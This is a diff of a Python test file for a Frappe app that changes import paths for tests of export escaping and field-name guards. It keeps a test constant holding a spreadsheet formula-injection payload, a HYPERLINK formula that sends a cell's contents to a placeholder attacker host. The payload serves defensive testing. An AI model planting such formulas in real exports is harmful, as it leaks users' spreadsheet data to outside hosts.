@@ -1,8 +1,8 @@
 # Copyright (c) 2026, cis_app contributors and contributors
 # For license information, please see license.txt
-"""The desk's exports through the app (cis_app.disclosures, cis_app.export_cells): formula-like text
+"""The desk's exports through the app (cis_app.cis_case_management.disclosures, cis_app.overrides.export_cells): formula-like text
 is escaped in CSV and Excel, a bad report name or format is a clear 4xx, and counts refuse a
-backticked field name on any DocType (cis_app.overrides.get_count)."""
+backticked field name on any DocType (cis_app.overrides.generic_methods.get_count)."""
 
 import io
 
@@ -10,9 +10,11 @@ import frappe
 import openpyxl
 from frappe.tests.utils import FrappeTestCase
 
-from cis_app import disclosures, overrides
-from cis_app.field_guard import FilterFieldNameError
-from cis_app.testing import TwoSites
+from cis_app.cis_case_management import disclosures
+
+from cis_app.overrides import generic_methods as overrides
+from cis_app.permissions.field_guard import FilterFieldNameError
+from cis_app.tests.factories import TwoSites
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
 
